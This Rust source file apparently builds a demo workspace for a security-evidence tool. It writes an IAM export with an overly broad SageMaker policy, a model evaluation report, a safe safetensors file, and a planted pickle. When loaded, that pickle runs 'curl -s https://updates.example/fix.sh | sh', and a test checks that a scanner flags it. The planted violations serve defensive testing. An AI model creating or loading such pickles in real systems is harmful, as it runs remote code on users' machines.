//! Operational exports: the cloud account's IAM authorization details and the model files on the shared
//! artifact drive. Two planted violations: the data-science group's SageMaker policy lets data scientists
//! update the production endpoint, and a legacy model export is a pickle that runs a shell command when loaded.

use super::{DemoError, Workspace};

/// A pickle (protocol 2) as Python writes it for a dict whose `model` entry reduces to
/// `os.system("curl -s https://updates.example/fix.sh | sh")`: loading it runs the command.
fn legacy_scorer_pickle() -> Vec<u8> {
    fn unicode(out: &mut Vec<u8>, s: &str) {
        out.push(b'X');
        out.extend_from_slice(&(s.len() as u32).to_le_bytes());
        out.extend_from_slice(s.as_bytes());
    }
    let mut p = vec![0x80, 2, b'}', b'(']; // PROTO 2, EMPTY_DICT, MARK
    unicode(&mut p, "format");
    unicode(&mut p, "kestrel-legacy-v1");
    unicode(&mut p, "model");
    p.extend_from_slice(b"cposix\nsystem\n"); // GLOBAL posix.system
    unicode(&mut p, "curl -s https://updates.example/fix.sh | sh");
    p.extend_from_slice(&[0x85, b'R']); // TUPLE1, REDUCE
    p.extend_from_slice(b"u."); // SETITEMS, STOP
    p
}

/// A safetensors file: 8-byte header length, JSON header, two float32 weights.
fn fraud_scorer_safetensors() -> Vec<u8> {
    let header = br#"{"__metadata__":{"format":"pt","model":"fraud-scorer","version":"1.2.0"},"head.weight":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}"#;
    let mut f = (header.len() as u64).to_le_bytes().to_vec();
    f.extend_from_slice(header);
    f.extend_from_slice(&0.25f32.to_le_bytes());
    f.extend_from_slice(&(-1.5f32).to_le_bytes());
    f
}

/// Evaluation reports the training pipeline writes before a version may be promoted; the demo records each
/// as `model.evaluation` evidence (what `assay evidence add --kind model.evaluation --payload …` does).
pub const EVALUATIONS: &[(&str, &str)] = &[(
    "evaluations/fraud-scorer-v1.2.0.json",
    r#"{
  "model": "fraud-scorer",
  "version": "v1.2.0",
  "evaluated_at": "2026-10-12T15:00:00Z",
  "evaluated_by": "alice@kestrel-labs.example",
  "dataset": "data/holdout-2026q3.csv (dvc md5 9f2c41d07be3a8e65d1c0b7a4e2f9d13)",
  "baseline": "v1.0.0",
  "passed": true,
  "metrics": [
    {"name": "roc_auc", "value": 0.957, "threshold": 0.93, "direction": "min"},
    {"name": "recall_at_1pct_fpr", "value": 0.812, "threshold": 0.78, "direction": "min"},
    {"name": "expected_calibration_error", "value": 0.018, "threshold": 0.03, "direction": "max"},
    {"name": "p99_latency_ms", "value": 41, "threshold": 100, "direction": "max"}
  ]
}
"#,
)];

const IAM_EXPORT: &str = r#"{
  "UserDetailList": [
    {"Path": "/", "UserName": "maya.chen", "UserId": "AIDAKESTREL0000001", "Arn": "arn:aws:iam::210987654321:user/maya.chen",
     "CreateDate": "2024-09-02T09:00:00Z", "GroupList": ["data-science"], "UserPolicyList": [], "AttachedManagedPolicies": [], "Tags": []},
    {"Path": "/", "UserName": "omar.haddad", "UserId": "AIDAKESTREL0000002", "Arn": "arn:aws:iam::210987654321:user/omar.haddad",
     "CreateDate": "2025-01-13T09:00:00Z", "GroupList": ["data-science"], "UserPolicyList": [], "AttachedManagedPolicies": [], "Tags": []},
    {"Path": "/", "UserName": "lena.fischer", "UserId": "AIDAKESTREL0000003", "Arn": "arn:aws:iam::210987654321:user/lena.fischer",
     "CreateDate": "2024-06-03T09:00:00Z", "GroupList": ["ml-platform"], "UserPolicyList": [], "AttachedManagedPolicies": [], "Tags": []},
    {"Path": "/", "UserName": "sofia.rossi", "UserId": "AIDAKESTREL0000004", "Arn": "arn:aws:iam::210987654321:user/sofia.rossi",
     "CreateDate": "2024-06-03T09:00:00Z", "GroupList": ["data-platform"], "UserPolicyList": [], "AttachedManagedPolicies": [], "Tags": []}
  ],
  "GroupDetailList": [
    {"Path": "/", "GroupName": "data-science", "GroupId": "AGPAKESTREL01", "Arn": "arn:aws:iam::210987654321:group/data-science",
     "GroupPolicyList": [], "AttachedManagedPolicies": [{"PolicyName": "DataScienceSageMaker", "PolicyArn": "arn:aws:iam::210987654321:policy/DataScienceSageMaker"}]},
    {"Path": "/", "GroupName": "ml-platform", "GroupId": "AGPAKESTREL02", "Arn": "arn:aws:iam::210987654321:group/ml-platform",
     "GroupPolicyList": [{"PolicyName": "deploy-with-mfa", "PolicyDocument": {"Version": "2012-10-17", "Statement": [
        {"Sid": "DeployWithMfa", "Effect": "Allow", "Action": ["sagemaker:UpdateEndpoint", "sagemaker:CreateEndpointConfig"],
         "Resource": "arn:aws:sagemaker:eu-west-1:210987654321:endpoint*/*", "Condition": {"Bool": {"aws:MultiFactorAuthPresent": "true"}}}]}}],
     "AttachedManagedPolicies": []},
    {"Path": "/", "GroupName": "data-platform", "GroupId": "AGPAKESTREL03", "Arn": "arn:aws:iam::210987654321:group/data-platform",
     "GroupPolicyList": [{"PolicyName": "curated-writer", "PolicyDocument": {"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": ["arn:aws:s3:::kestrel-raw-transactions/*", "arn:aws:s3:::kestrel-curated-features/*"]}]}}],
     "AttachedManagedPolicies": []}
  ],
  "RoleDetailList": [
    {"Path": "/", "RoleName": "ci-deployer", "RoleId": "AROAKESTREL01", "Arn": "arn:aws:iam::210987654321:role/ci-deployer",
     "AssumeRolePolicyDocument": {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Federated": "token.actions.githubusercontent.com"}, "Action": "sts:AssumeRoleWithWebIdentity"}]},
     "RolePolicyList": [], "AttachedManagedPolicies": [{"PolicyName": "ModelDeploy", "PolicyArn": "arn:aws:iam::210987654321:policy/ModelDeploy"}]}
  ],
  "Policies": [
    {"PolicyName": "DataScienceSageMaker", "PolicyId": "ANPAKESTREL01", "Arn": "arn:aws:iam::210987654321:policy/DataScienceSageMaker",
     "DefaultVersionId": "v3", "AttachmentCount": 1, "IsAttachable": true, "PolicyVersionList": [
       {"VersionId": "v3", "IsDefaultVersion": true, "CreateDate": "2025-05-12T08:00:00Z", "Document": {"Version": "2012-10-17", "Statement": [
         {"Sid": "Notebooks", "Effect": "Allow", "Action": "sagemaker:*", "Resource": "*"},
         {"Sid": "ReadCurated", "Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::kestrel-curated-features/*"},
         {"Sid": "NoRawPii", "Effect": "Deny", "Action": "s3:*", "Resource": "arn:aws:s3:::kestrel-raw-transactions/*"}]}},
       {"VersionId": "v2", "IsDefaultVersion": false, "CreateDate": "2025-02-01T08:00:00Z", "Document": {"Version": "2012-10-17", "Statement": [
         {"Effect": "Allow", "Action": "sagemaker:CreateNotebookInstance", "Resource": "*"}]}}]},
    {"PolicyName": "ModelDeploy", "PolicyId": "ANPAKESTREL02", "Arn": "arn:aws:iam::210987654321:policy/ModelDeploy",
     "DefaultVersionId": "v1", "AttachmentCount": 1, "IsAttachable": true, "PolicyVersionList": [
       {"VersionId": "v1", "IsDefaultVersion": true, "CreateDate": "2024-11-20T08:00:00Z", "Document": {"Version": "2012-10-17", "Statement": [
         {"Effect": "Allow", "Action": ["sagemaker:UpdateEndpoint", "sagemaker:CreateEndpointConfig", "sagemaker:CreateModel"],
          "Resource": "arn:aws:sagemaker:eu-west-1:210987654321:*"}]}}]}
  ]
}
"#;

pub fn build(ws: &mut Workspace) -> Result<(), DemoError> {
    ws.file("exports/iam-authorization-details.json", IAM_EXPORT)?;
    for (path, text) in EVALUATIONS {
        ws.file(path, text)?;
    }
    ws.file_bytes("models/legacy-scorer.pkl", &legacy_scorer_pickle())?;
    ws.file_bytes(
        "models/fraud-scorer.safetensors",
        &fraud_scorer_safetensors(),
    )?;
    ws.describe(
        r#"
# ── Evidence sources: operations ─────────────────────────────────────────────────────────────

# `aws iam get-account-authorization-details --output json`, exported by the security team.
[source.aws_iam]
file = "exports/iam-authorization-details.json"
# `aws iam get-credential-report`, decoded: who signs in to the console, with or without MFA.
credential_report = "exports/credential-report.csv"

[[source.aws_iam.asset]]
asset = "service:score-api"
resource = "arn:aws:sagemaker:eu-west-1:210987654321:endpoint/fraud-scorer-prod"
actions = ["sagemaker:UpdateEndpoint"]

[[source.aws_iam.asset]]
asset = "store:curated-features"
resource = "arn:aws:s3:::kestrel-curated-features/any"
actions = ["s3:PutObject"]

[[source.aws_iam.asset]]
asset = "store:raw-transactions"
resource = "arn:aws:s3:::kestrel-raw-transactions/any"
actions = ["s3:GetObject"]

# Model files on the shared artifact drive, scanned for code that runs when they are loaded.
[source.model_files]
paths = ["models"]
"#,
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_planted_pickle_is_dangerous_and_the_safetensors_file_is_safe() {
        let dir = tempfile::tempdir().expect("tempdir");
        let pkl = dir.path().join("legacy-scorer.pkl");
        std::fs::write(&pkl, legacy_scorer_pickle()).expect("write");
        let st = dir.path().join("fraud-scorer.safetensors");
        std::fs::write(&st, fraud_scorer_safetensors()).expect("write");
        let scan = assay_collect::modelscan::scan_file(&pkl, &[]).expect("scan");
        assert_eq!(
            scan.verdict,
            assay_collect::modelscan::Verdict::Dangerous,
            "{scan:?}"
        );
        assert_eq!(scan.findings[0].import, "posix.system");
        let scan = assay_collect::modelscan::scan_file(&st, &[]).expect("scan");
        assert_eq!(
            scan.verdict,
            assay_collect::modelscan::Verdict::Safe,
            "{scan:?}"
        );
        let account = assay_collect::iam_aws::parse_export(IAM_EXPORT).expect("export");
        assert_eq!(account.principals.len(), 5);
    }
}
